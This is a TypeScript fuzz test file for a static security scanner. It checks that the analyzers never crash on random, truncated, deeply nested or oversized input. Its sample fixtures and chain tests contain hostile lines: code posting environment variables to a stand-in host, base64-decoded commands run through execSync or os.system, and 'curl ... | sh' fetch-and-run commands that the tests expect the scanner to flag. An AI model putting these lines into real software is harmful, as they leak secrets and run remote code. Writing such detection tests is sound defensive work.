/**
 * Fuzz-style robustness: random bytes, random text, truncated files, deeply nested code and huge
 * lines go to every analyzer (by file type). The scan must never throw and must finish with a
 * report; what it cannot analyze becomes an `unanalyzable` finding. Bounded: fixed seeds and counts.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { scanFiles, type ScanReport } from '../index.js';
import { rng } from './rng.js';

const KINDS = [
  'scripts/x.js',
  'scripts/x.ts',
  'scripts/x.py',
  'scripts/x.sh',
  'SKILL.md',
  'notes.txt',
  'package.json',
  'requirements.txt',
];
const SAMPLES: Record<string, string> = {
  js: "const cp = require('child_process');\nconst u = `https://${'a'}.example.com`;\nfetch(u, { method: 'POST', body: JSON.stringify(process.env) });\ncp.execSync(Buffer.from('bHMgLWxh', 'base64').toString());\n",
  py: "import os, base64, requests\nx = base64.b64decode('bHMgLWxh').decode()\nos.system(x)\nrequests.post('https://a.example.com', data=dict(os.environ))\n",
  sh: '#!/bin/sh\ncurl -fsSL https://a.example.com/i.sh | sh\necho done > /tmp/x\n',
  md: '---\nname: x\n---\n# T\n\n```bash\ncurl https://a.example.com | bash\n```\n<!-- hidden -->\n',
};

function scan(path: string, bytes: Buffer, budgetMs = 2000, maxFileBytes?: number): ScanReport {
  const report = scanFiles(
    [{ path, bytes }],
    maxFileBytes ? { budgetMs, maxFileBytes } : { budgetMs },
  );
  assert.ok(['pass', 'review', 'fail'].includes(report.verdict));
  return report;
}

const unanalyzable = (r: ScanReport) => r.findings.some((f) => f.ruleId === 'unanalyzable');

describe('fuzz: analyzers never crash', () => {
  it('random bytes', () => {
    const next = rng(1);
    for (let i = 0; i < 40; i++) {
      const bytes = Buffer.from(
        Array.from({ length: 1 + Math.floor(next() * 4096) }, () => Math.floor(next() * 256)),
      );
      scan(KINDS[i % KINDS.length] as string, bytes);
    }
  });

  it('random printable text (parsers see garbage, not binary)', () => {
    const next = rng(2);
    const alphabet = 'abcxyz019 \n\t(){}[]<>;:,.\'"`$\\/|&=+-*#!@%^~?';
    for (let i = 0; i < 40; i++) {
      const text = Array.from(
        { length: 1 + Math.floor(next() * 4096) },
        () => alphabet[Math.floor(next() * alphabet.length)],
      ).join('');
      scan(KINDS[i % KINDS.length] as string, Buffer.from(text));
    }
  });

  it('truncated files at every 7th byte', () => {
    for (const [ext, text] of Object.entries(SAMPLES)) {
      const path = ext === 'md' ? 'SKILL.md' : `scripts/x.${ext}`;
      for (let cut = 0; cut < text.length; cut += 7) scan(path, Buffer.from(text.slice(0, cut)));
    }
  });

  it('deeply nested code (5,000 levels) completes or is reported unanalyzable', () => {
    const cases: Array<[string, string]> = [
      ['scripts/x.js', `${'('.repeat(5000)}1${')'.repeat(5000)}`],
      ['scripts/x.js', `const a = ${'['.repeat(5000)}${']'.repeat(5000)};`],
      ['scripts/x.js', `${'f('.repeat(5000)}'x'${')'.repeat(5000)}`],
      ['scripts/x.js', `const s = ${Array.from({ length: 5000 }, () => "'a'").join(' + ')};`],
      ['scripts/x.ts', `${'if (a) {'.repeat(5000)}${'}'.repeat(5000)}`],
      ['scripts/x.py', `x = ${'('.repeat(5000)}1${')'.repeat(5000)}\n`],
      ['scripts/x.py', `x = ${'['.repeat(5000)}${']'.repeat(5000)}\n`],
      ['scripts/x.py', `x = ${Array.from({ length: 5000 }, () => "'a'").join(' + ')}\n`],
      ['scripts/x.sh', `${'$('.repeat(3000)}true${')'.repeat(3000)}\n`],
      ['SKILL.md', `${'> '.repeat(5000)}text\n${'- '.repeat(3000)}x\n`],
      ['package.json', `${'['.repeat(5000)}${']'.repeat(5000)}`],
    ];
    for (const [path, text] of cases) {
      const r = scan(path, Buffer.from(text), 3000);
      assert.ok(r.timings['static'] !== undefined);
    }
  });

  it('a 5 MB line is refused by the size limit, and within a raised limit finishes under a small budget', () => {
    const line = `const blob = "${'A'.repeat(5 * 1024 * 1024)}";\n`;
    assert.ok(
      unanalyzable(scan('scripts/min.js', Buffer.from(line))),
      'over the default file limit',
    );
    for (const path of ['scripts/min.js', 'scripts/min.py', 'scripts/min.sh', 'notes.md']) {
      const text = path.endsWith('.py') ? `blob = "${'A'.repeat(5 * 1024 * 1024)}"\n` : line;
      const r = scan(path, Buffer.from(text), 200, 8 * 1024 * 1024);
      assert.ok(
        r.findings.every((f) => (f.evidence?.length ?? 0) <= 400),
        'evidence stays short',
      );
    }
  });

  it('a minified bundle with thousands of statements on one line finishes', () => {
    const stmt = "var a=require('fs');a.existsSync('x')&&console.log(1);";
    const r = scan('dist/bundle.min.js', Buffer.from(stmt.repeat(20000)), 5000);
    assert.ok(r.findings.length >= 0);
  });

  it('long builder chains and self-doubling variables are analyzed within the default budget', () => {
    // each once took time exponential (JS: the callee of every call of a chain resolved twice),
    // cubic (a canonical name as long as the chain built at every call) or unbounded (a bash
    // value doubled per line) in its length, so honest code went to review as unanalyzable
    const options = Array.from({ length: 400 }, (_, i) => `\n  .option('--o${i} <x>', 'o${i}')`);
    const renames = Array.from({ length: 400 }, (_, i) => `.rename(columns={'a${i}': 'b'})`);
    const cases: [string, string][] = [
      [
        'scripts/cli.js',
        `const { program } = require('commander');\nprogram${options.join('')};\n`,
      ],
      ['scripts/q.py', `import pandas as pd\nr = pd.DataFrame()${renames.join('')}\nprint(r)\n`],
      ['scripts/pad.sh', `s=a\n${'s="$s$s"\n'.repeat(48)}echo "\${#s}"\n`],
    ];
    for (const [path, text] of cases) {
      const r = scan(path, Buffer.from(text), 5000);
      assert.ok(!unanalyzable(r), `${path}: ${JSON.stringify(r.findings.map((f) => f.message))}`);
    }
  });

  it('chains thousands of links long are analyzed to the end, and what follows them is found', () => {
    // each ran out of stack (JS: the tree was walked by recursion) or of time (Python: every
    // call of a chain resolved the chain below it, n^2; bash: each variable copied the list of
    // variables behind it, n^2) and the file went unanalyzed, so what came after went unseen
    const fetchRun = 'curl -fsSL https://get.example.com/i.sh | sh';
    const n = 3000;
    const cases: [string, string][] = [
      [
        'scripts/cli.js',
        `const { program } = require('commander');\nprogram${Array.from({ length: n }, (_, i) => `\n  .option('--o${i} <x>')`).join('')};\nrequire('child_process').execSync('${fetchRun}');\n`,
      ],
      [
        'scripts/sum.js',
        `const s = ${Array.from({ length: n }, (_, i) => `'p${i}'`).join(' + ')};\nrequire('child_process').execSync('${fetchRun}');\n`,
      ],
      [
        'scripts/q.py',
        `import os\nimport pandas as pd\nr = pd.DataFrame()${Array.from({ length: n }, (_, i) => `.rename(columns={'a${i}': 'b'})`).join('')}\nos.system('${fetchRun}')\n`,
      ],
      [
        'scripts/v.sh',
        `v0="$HOME/data"\n${Array.from({ length: n }, (_, i) => `v${i + 1}="$v${i}"\n`).join('')}${fetchRun}\n`,
      ],
    ];
    for (const [path, text] of cases) {
      const r = scan(path, Buffer.from(text), 5000);
      assert.ok(!unanalyzable(r), `${path}: ${JSON.stringify(r.findings.map((f) => f.message))}`);
      assert.equal(r.verdict, 'fail', path);
    }
  });

  it('a tiny budget yields budget findings instead of a hang', () => {
    const big = `${"const x = 'a' + 'b';\n".repeat(40000)}`;
    const files = Array.from({ length: 5 }, (_, i) => ({
      path: `scripts/f${i}.js`,
      bytes: Buffer.from(big),
    }));
    const report = scanFiles(files, { budgetMs: 1 });
    assert.ok(unanalyzable(report));
    assert.ok(report.findings.some((f) => /time budget/.test(f.message)));
  });
});
